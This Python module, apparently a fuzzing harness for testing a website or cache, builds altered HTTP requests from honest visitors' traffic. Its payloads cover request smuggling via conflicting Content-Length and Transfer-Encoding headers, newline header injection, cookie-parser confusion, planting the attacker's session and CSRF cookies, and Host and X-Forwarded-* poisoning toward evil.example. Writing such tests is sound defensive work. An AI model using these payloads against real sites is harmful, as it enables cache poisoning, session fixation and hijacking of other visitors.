"""Attacks on ``site``: changes of the requests of honest visitors."""

import random
import re

OF_URLS = {
    "evil.example": "X-Forwarded-Host X-Forwarded-Server X-Host X_Forwarded_Host",
    "https": "X-Forwarded-Proto X-Forwarded-Scheme X-Forwarded-Ssl",
    "/evil": "X-Forwarded-Prefix X-Script-Name X-Original-Url X-Rewrite-Url SCRIPT_NAME",
    "POST": "X-Http-Method-Override",
    "444": "X-Forwarded-Port",
    "6.6.6.6": "X-Forwarded-For",
    "host=evil.example;proto=https": "Forwarded",
}
FORM = "application/x-www-form-urlencoded"
CHARSETS = ["cp037", "utf-16", "unicode_escape", "latin-1"]
SPACES = ["\xc2\xa0", "\xa0", "\xc2\x85", "\x85", "\xe3\x80\x80", "\t", "\x1c", "\x0b"]
"""Characters that ``str.strip`` removes: in UTF-8, and in Latin-1."""

OF_HEADERS = {
    # Parts that frameworks read early.
    "Content-Type": [
        *(f"text/plain; charset={each}" for each in CHARSETS),
        *("application/json", FORM, "multipart/form-data; boundary=x", "text/html\n+Content-Type: application/json"),
    ],
    "Connection": ["evil, keep-alive", "TE, keep-alive\nTE: trailers", "upgrade\nUpgrade: h2c"],
    "Content-Length": [
        *("0", "0\n+Content-Length: 0", "10\n\nn=evil&a=1", f"10\nContent-Type: {FORM}\n\nn=evil&a=1"),
        "3\nTransfer-Encoding: chunked\n\n0\r\n\r\n",
    ],
    "Transfer-Encoding": ["chunked\n\n6\r\nn=evil\r\n0\r\n\r\n"],
    # Two cookie parsers; CSRF, and the attacker's own session.
    "Cookie": [
        *(f"{{cookie}}; {each}theme=EVIL" for each in SPACES),
        *(f"{{cookie}}; {each}{{session}}" for each in SPACES),
        *("{cookie}; theme\xc2\xa0=EVIL", "{cookie}\n+Cookie: theme=EVIL", "{cookie}\n+Cookie: {session}"),
        *("{cookie}, theme=EVIL", "a=1, theme=EVIL; {cookie}", 'a="1; theme=EVIL; zone=Asia/Tokyo"; {cookie}'),
        *('theme="EVIL; {cookie}', r'theme="\105VIL"; {cookie}', "{cookie}; theme=EVIL; theme=light"),
        *("=theme=EVIL; {cookie}", "theme; {cookie}", "{cookie}; th\xe9me=EVIL; theme=\xe9"),
        *('$Version="1"; theme="EVIL"; $Path="/"; {cookie}', "{cookie}; \xc2\xa0django_language=en"),
        *("{cookie}; \xc2\xa0zone=Asia/Tokyo", "{cookie}; {session}", "{token}", "{token}; {session}"),
    ],
    # Different values that share a key.
    "Accept-Language": [
        *(",de", "D\xa0E", "de;q=0.5;q=1", f"{'xx,' * 200}de", "de\n+Accept-Language: en"),
    ],
    "X-Country": [
        *("DE,", ",DE", "x" * 2000, "D\r\n E", "D\x07E"),
        *("DE\n+X-Country: EVIL", "EVIL\n+X-Country: DE"),
    ],
    "Accept-Encoding": ["gzip;q=0", "x-gzip", "GZIP"],
    "Accept": ["application/json"],
    "User-Agent": ["a bot"],
    "Authorization": ["Basic YTpi"],
    "Host": [
        *("EXAMPLE.com", "example.com:80", "example.com.", "example.com:444", "evil.example", "other.example"),
        *("example.com\n+Host: evil.example", "example.com, other.example"),
    ],
    **{name: [value] for value, names in OF_URLS.items() for name in names.split()},
    "Cache-Control": ["no-store", "max-age=0", "only-if-cached", '"' + '\\"' * 400],
    "Range": ["bytes=0-3"],
    "If-None-Match": ['*\nIf-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT\nIf-Range: "x"'],
    "If-Match": ['"x"'],
    "Expect": ["100-continue"],
}
METHODS = ["HEAD", "OPTIONS", "PUT", "get", "TRACE"]
TARGETS = ["/{url}", "/x/..{url}", "{url};x", "{url}#x", "{url}&n=evil", "{url}&%6E=evil", "{url}%00"]
ATTACKS = [
    *(f"{name}: {value}" for name, values in OF_HEADERS.items() for value in values),
    *("GET {url} HTTP/1.0", "GET {url} HTTP/1.0\n-Host", "GET http://other.example{url} HTTP/1.1"),
    *(f"{each} {{url}} HTTP/1.1" for each in METHODS),
    "POST {url} HTTP/1.1\nContent-Length: 0",
    *(f"GET {each} HTTP/1.1" for each in [*TARGETS, "{slashes}", "{letters}"]),
]
"""Changes of an honest visitor's request. A line replaces the lines of its header; "+" adds a line, "-" removes lines.
The first line may be a request line. Lines after an empty one are the body."""

CHANGES_OF_HEAD = [attack for attack in ATTACKS if "\n\n" not in attack]


class Attacker:
    """Makes requests from those of honest visitors, without their secrets.

    Args:
        session: the cookie of the attacker's own session.
    """

    def __init__(self, session, seed):
        self._chance = random.Random(seed)
        self._own = {"session": session, "token": f"csrftoken={'e' * 32}"}

    def mutate(self, public, url):
        """Return a request with one of ``ATTACKS``, and often another one that changes the headers or the target."""
        chosen = self._chance.choices(CHANGES_OF_HEAD, k=self._chance.randrange(2))
        attack = "\n".join(filter(None, [*chosen, self._chance.choice(["", *ATTACKS])]))
        path, query = url.split("?")
        letters = path[:-2] + f"%{ord(path[-2]):X}" + path[-1] + "?" + query
        places = {"url": url, "slashes": path.replace("/", "%2F")[3:] + "?" + query, "letters": letters}
        places |= {**self._own, "cookie": public.get("Cookie", "_ga=2")}
        head, _, body = attack.partition("\n\n")
        request, headers = f"GET {url} HTTP/1.1", [("Host", "example.com"), *public.items()]
        for line in head.split("\n") if head else ():
            line = re.sub(r"{(\w+)}", lambda found: places[found[1]], line)
            name, _, value = line.partition(": ")
            if " HTTP/" in line:
                request = line
                continue
            if not name.startswith("+"):
                headers = [pair for pair in headers if pair[0] != name.lstrip("-")]
            if not name.startswith("-"):
                headers.append((name.lstrip("+"), value))
        lines = [request, *(f"{name}: {value}" for name, value in [*headers, ("X-Application", "cached")]), "", body]
        return "\r\n".join(lines).encode("latin-1")
